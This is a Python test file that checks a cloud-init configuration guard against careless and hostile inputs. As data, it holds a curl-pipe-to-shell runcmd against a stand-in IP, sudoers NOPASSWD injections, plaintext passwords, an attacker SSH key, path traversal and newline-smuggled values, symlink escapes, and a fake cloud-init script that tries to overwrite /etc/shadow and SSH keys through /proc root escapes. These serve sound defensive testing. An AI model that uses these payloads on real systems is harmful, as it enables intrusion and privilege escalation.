# -*- coding: utf-8 -*-
# Copyright: Contributors to the bakery.ami project
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""cloudinit_guard: privileged or oversized settings, names, and trees whose cloud-init files lead
out of the root.

The trees are the Amazon Linux 2023 fixture and the /etc of the Debian 12 and 13 images (cloud-init
22.4 and 25.1). The decoy holds a cloud.cfg and a cloud.cfg.d/zz-decoy.cfg that set
manage_etc_hosts back to true: a guard that read them would report a conflict, one that wrote
through a link would put its drop-in beside them.
"""
from __future__ import annotations

from tests.reliability.hostile.corpus import HUGE, NOT_YAML, Case, Escape, File, HostProgram, Link, Tree, accept, \
    all_of, either, refuse, root_file

MODULE = "cloudinit_guard"
AWS = False
AL = Tree("al2023")
DROPIN = "/etc/cloud/cloud.cfg.d/99_bakery_guard.cfg"
USERS = [{"name": "ops", "plain_text_passwd": "hunter2", "lock_passwd": False, "sudo": "ALL=(ALL) NOPASSWD:ALL"}]


def guard(**extra) -> dict:
    return dict({"root": "{root}"}, **extra)


def _no_decoy_conflict(result, ctx):
    return ["reports a conflict with %s, which lies outside the root" % c.get("file")
            for c in result.get("conflicts") or [] if "decoy" in str(c.get("file"))]


def _ran_isolated(result, ctx):
    """The hostile cloud-init records the PID it saw: in a fresh PID namespace it is tiny."""
    marker = ctx.root / "cloud-init-ran"
    if not marker.exists():
        return []
    pids = [int(p) for p in marker.read_text().split() if p.isdigit()]
    return ["the image's cloud-init ran in the host's PID namespace (PID %d)" % p for p in pids if p > 50]


IN_ROOT = "the drop-in is written inside the root; the decoy is untouched"
NO_DECOY_READ = accept("the decoy's zz-decoy.cfg is never read: no conflict from outside; the drop-in is written",
                       all_of(_no_decoy_conflict, root_file(DROPIN)))
# A cloud-init that tries to reach outside: writes at the decoy's host path, through /proc/1/root
# (the host's root where /proc is the host's), records its PID, and answers like a valid schema.
HOSTILE_CLOUD_INIT = ("#!/bin/sh\n"
                      "echo pwned > {outside}/etc/shadow 2>/dev/null\n"
                      "echo pwned > /proc/1/root{outside}/etc/shadow 2>/dev/null\n"
                      "echo pwned > /proc/self/root{outside}/home/alice/.ssh/id_ed25519 2>/dev/null\n"
                      "echo $$ >> /cloud-init-ran\n"
                      "echo 'Valid schema'\n"
                      "exit 0\n")


def hostile_cloud_init(suite: str) -> Tree:
    return Tree(suite, HostProgram("/bin/sh", "/usr/bin/dash"), File("/usr/bin/cloud-init", HOSTILE_CLOUD_INIT, 0o755))


CASES = [
    # careless input
    Case("protect-unknown", guard(protect=["nonsense"]), refuse("protect"), tree=AL),
    Case("protect-empty-string", guard(protect=[""]), refuse("protect"), tree=AL),
    Case("settings-not-yaml", guard(settings=NOT_YAML), refuse("settings"), tree=AL),
    Case("filename-traversal", guard(protect=["etc_hosts"], filename="../../etc/passwd"), refuse("filename"), tree=AL),
    Case("filename-empty", guard(protect=["etc_hosts"], filename=""), refuse("filename"), tree=AL),
    Case("filename-wrong-suffix", guard(protect=["etc_hosts"], filename="99_x.txt"), refuse("filename"), tree=AL),
    Case("disable-unknown-module", guard(disable_modules=["no_such_module"]), refuse("disable_modules"), tree=AL),
    Case("root-missing", guard(root="{root}/no/such/dir", protect=["etc_hosts"]), refuse("root"), tree=AL),
    Case("customized-path-relative", guard(protect=["etc_hosts"], customized_paths=["etc/hostname"]),
         refuse("customized_paths"), tree=AL),
    Case("cloud-cfg-not-yaml", guard(protect=["etc_hosts"]), refuse("cloud.cfg"),
         tree=Tree("al2023", File("/etc/cloud/cloud.cfg", "users: [default\nssh_pwauth: {\n"))),
    Case("audit-off-fail-on", guard(protect=["etc_hosts"], audit=False, fail_on_unprotected=True),
         refuse("fail_on_unprotected"), tree=AL),
    Case("protect-huge", guard(protect=[HUGE]), refuse("protect"), tree=AL),
    # settings that create users, set passwords, run commands or write files (issue 17, item 14)
    Case("settings-users-plaintext-nopasswd", guard(settings={"users": USERS}), refuse("settings"), tree=AL, item=14),
    Case("settings-runcmd", guard(settings={"runcmd": ["curl -s http://203.0.113.9/x | sh"]}), refuse("settings"),
         tree=AL, item=14),
    Case("settings-bootcmd", guard(settings={"bootcmd": ["echo 'ops ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"]}),
         refuse("settings"), tree=AL, item=14),
    Case("settings-write-files", guard(settings={"write_files": [{"path": "/etc/sudoers.d/ops",
                                                                  "content": "ops ALL=(ALL) NOPASSWD:ALL\n"}]}),
         refuse("settings"), tree=AL, item=14),
    Case("settings-chpasswd", guard(settings={"chpasswd": {"expire": False, "users": [
        {"name": "root", "password": "hunter2", "type": "text"}]}}), refuse("settings"), tree=AL, item=14),
    Case("settings-password", guard(settings={"password": "hunter2", "ssh_pwauth": True}), refuse("settings"),
         tree=AL, item=14),
    Case("settings-ssh-authorized-keys", guard(settings={"ssh_authorized_keys": ["ssh-ed25519 AAAAC3Nz attacker"]}),
         refuse("settings"), tree=AL, item=14),
    Case("settings-groups", guard(settings={"groups": [{"wheel": ["ops"]}]}), refuse("settings"), tree=AL, item=14),
    Case("settings-users-allowed-explicitly", guard(settings={"users": ["default"]}, allow_privileged_settings=True),
         accept("written, because allow_privileged_settings says so", root_file(DROPIN)), tree=AL),
    # values bounded (issue 17, item 14: a 100 kB hostname was accepted)
    Case("settings-hostname-100k", guard(settings={"hostname": "h" * 100_000}), refuse("settings"), tree=AL, item=14),
    Case("settings-hostname-254", guard(settings={"hostname": "h" * 254}), refuse("settings"), tree=AL, item=14),
    Case("settings-fqdn-newline", guard(settings={"fqdn": "web.example.com\nruncmd: [reboot]"}), refuse("settings"),
         tree=AL, item=14),
    Case("settings-hostname-control-char", guard(settings={"hostname": "web\x1b[2J"}), refuse("settings"), tree=AL,
         item=14),
    # names (issue 17, item 10: module names with a trailing newline passed)
    Case("disable-module-trailing-newline", guard(disable_modules=["ntp\n"]), refuse("disable_modules"), tree=AL,
         item=10),
    Case("protect-trailing-newline", guard(protect=["etc_hosts\n"]), refuse("protect"), tree=AL, item=10),
    Case("filename-trailing-newline", guard(protect=["etc_hosts"], filename="99_bakery_guard.cfg\n"),
         refuse("filename"), tree=AL, item=10),
    Case("customized-path-tilde", guard(protect=["etc_hosts"], customized_paths=["~/.ssh/authorized_keys"]),
         refuse("customized_paths"), tree=AL),
    # cloud-init's files lead out of the root (issue 17, item 1)
    Case("etc-cloud-link-absolute", guard(protect=["etc_hosts"]), either("root", "/etc/cloud", safe=IN_ROOT),
         tree=Tree("al2023", Escape("/etc/cloud", "{outside}/etc/cloud")), item=1),
    Case("cloud-cfg-d-link-relative", guard(protect=["etc_hosts"]), either("root", "/etc/cloud", safe=IN_ROOT),
         tree=Tree("al2023", Escape("/etc/cloud/cloud.cfg.d", "{up}outside/etc/cloud/cloud.cfg.d")), item=1),
    Case("dropin-link-to-authorized-keys", guard(protect=["etc_hosts"]), either("root", "filename", safe=IN_ROOT),
         tree=Tree("al2023", Escape(DROPIN, "{outside}/home/alice/.ssh/authorized_keys")), item=1),
    Case("debian-12-config-link-to-decoy", guard(protect=["etc_hosts"]),
         NO_DECOY_READ,
         tree=Tree("debian-12", Link("/etc/cloud/cloud.cfg.d/zz-decoy.cfg", "{outside}/etc/cloud/cloud.cfg.d/zz-decoy.cfg")),
         item=1),
    Case("debian-13-config-link-to-decoy-proc", guard(protect=["etc_hosts"]),
         NO_DECOY_READ,
         tree=Tree("debian-13", Link("/etc/cloud/cloud.cfg.d/zz-decoy.cfg",
                                     "/proc/self/root{outside}/etc/cloud/cloud.cfg.d/zz-decoy.cfg")), item=1),
    # the image's own cloud-init is hostile (issue 17, item 5)
    Case("debian-12-hostile-cloud-init", guard(protect=["etc_hosts"]),
         either("root", "cloud-init", safe="validated inside the sandbox (a fresh PID namespace)",
                check=_ran_isolated), tree=hostile_cloud_init("debian-12"), item=5, needs_root=True),
    Case("debian-13-hostile-cloud-init", guard(protect=["etc_hosts"], settings={"ssh_pwauth": False}),
         either("root", "cloud-init", safe="validated inside the sandbox (a fresh PID namespace)",
                check=_ran_isolated), tree=hostile_cloud_init("debian-13"), item=5, needs_root=True),
]
